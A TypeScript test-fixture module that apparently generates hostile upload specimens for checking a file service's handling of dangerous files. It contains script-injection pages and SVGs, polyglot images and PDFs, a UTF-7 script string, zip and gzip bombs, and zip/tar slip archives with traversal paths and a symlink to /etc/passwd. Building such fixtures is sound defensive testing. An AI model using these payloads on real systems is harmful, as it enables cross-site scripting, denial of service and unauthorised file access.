import { gzipSync } from 'node:zlib';
import { SYMBOLIC_LINK, tarOf, zipBomb, zipOf } from './archives.ts';
import type { Specimen } from './customer.ts';
import { gifAndScript, jpegAndPage, pdfAndZip, pngAndPage, waveAndPage } from './polyglots.ts';
import { svgPayloads } from './svg.ts';

const text = (content: string) => Buffer.from(content);

export interface Traps {
  /** What a script runs. */
  readonly call: string;
  /** Where everything else calls. */
  readonly home: string;
}

export const pageOf = ({ call, home }: Traps) =>
  `<!doctype html><img src="${home}/page.png" onerror="${call}"><script>${call}</script>`;

/** What may run, and so is only ever saved. */
export async function activeFiles(traps: Traps): Promise<Specimen[]> {
  const { call, home } = traps;
  const page = pageOf(traps);
  const xhtml = `<html xmlns="http://www.w3.org/1999/xhtml"><head><script>${call}</script></head><body/></html>`;
  const sheet = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${home}/a.xsl"?><a/>`;
  const archive = zipOf([{ name: 'a.html', content: text(page) }]);
  return [
    ...svgPayloads(traps).map((content, index) => ({
      name: `${index}.svg`,
      type: 'image/svg+xml',
      bytes: text(content),
    })),
    { name: 'bom.svg', type: 'image/svg+xml', bytes: utf16(svgPayloads(traps)[0] ?? '') },
    { name: 'a.html', type: 'text/html', bytes: text(page) },
    { name: 'a.xhtml', type: 'application/xhtml+xml', bytes: text(xhtml) },
    { name: 'a.xml', type: 'application/xml', bytes: text(xhtml) },
    { name: 'b.xml', type: 'text/xml', bytes: text(sheet) },
    { name: 'a.rss', type: 'application/rss+xml', bytes: text(xhtml) },
    { name: 'a.js', type: 'text/javascript', bytes: text(call) },
    { name: 'a.css', type: 'text/css', bytes: text(`@import url("${home}/a.css");`) },
    { name: 'a.mhtml', type: 'multipart/related', bytes: text(`MIME-Version: 1.0\r\n\r\n${page}`) },
    { name: 'a.hta', type: 'application/hta', bytes: text(page) },
    { name: 'a', type: 'application/octet-stream', bytes: text(page) },
    { name: 'b.html', type: 'application/octet-stream', bytes: text(page) },
    { name: 'a.foo', type: 'application/x-foo', bytes: text(page) },
    { name: 'a.manifest', type: 'text/cache-manifest', bytes: text(`CACHE:\n${home}/cached`) },
    { name: 'a.vtt', type: 'text/vtt', bytes: text(`WEBVTT\n\n${page}`) },
    { name: 'a.pdf', type: 'application/pdf', bytes: pdfAndZip(archive) },
    { name: 'a.svg.gz', type: 'application/gzip', bytes: gzipSync(svgPayloads(traps)[0] ?? '') },
  ];
}

const utf16 = (content: string) => Buffer.from(`\ufeff${content}`, 'utf16le');

/** What browsers show and never run, with something in it that would like to be run. */
export async function passiveFiles(traps: Traps): Promise<Specimen[]> {
  const page = pageOf(traps);
  const [svg = ''] = svgPayloads(traps);
  return [
    { name: 'a.gif', type: 'image/gif', bytes: gifAndScript(traps.call) },
    { name: 'a.jpg', type: 'image/jpeg', bytes: await jpegAndPage(page) },
    { name: 'a.png', type: 'image/png', bytes: await pngAndPage(page) },
    { name: 'a.wav', type: 'audio/wav', bytes: waveAndPage(page) },
    { name: 'a.txt', type: 'text/plain', bytes: text(page) },
    { name: 'b.txt', type: 'text/plain', bytes: utf16(page) },
    { name: 'c.txt', type: 'text/plain', bytes: text(svg) },
    { name: 'd.txt', type: 'text/plain', bytes: text('+ADw-script+AD4-1+ADw-/script+AD4-') },
    { name: 'a.csv', type: 'text/csv', bytes: text(page) },
  ];
}

/** Archives that hurt whoever unpacks them. `marker` is the name of the file that would appear. */
export function archives(marker: string): Specimen[] {
  const content = Buffer.from('unpacked');
  const up = '../'.repeat(12);
  const entries = [
    { name: `${up}tmp/${marker}`, content },
    { name: `/tmp/${marker}`, content },
    { name: `..\\..\\tmp\\${marker}`, content },
    { name: 'way-out', content: Buffer.from('/tmp'), mode: SYMBOLIC_LINK },
    { name: `way-out/${marker}`, content },
    { name: 'passwords', content: Buffer.from('/etc/passwd'), mode: SYMBOLIC_LINK },
  ];
  // A terabyte, when all of it is unpacked.
  const bomb = zipBomb({ levels: 5, copies: 16, leafBytes: 1024 ** 2 });
  return [
    { name: 'bomb.zip', type: 'application/zip', bytes: bomb },
    { name: 'bomb.gz', type: 'application/gzip', bytes: gzipSync(Buffer.alloc(30_000_000)) },
    { name: 'slip.zip', type: 'application/zip', bytes: zipOf(entries) },
    { name: 'slip.tar', type: 'application/x-tar', bytes: tarOf(entries) },
    { name: 'slip.jar', type: 'application/java-archive', bytes: zipOf(entries) },
  ];
}
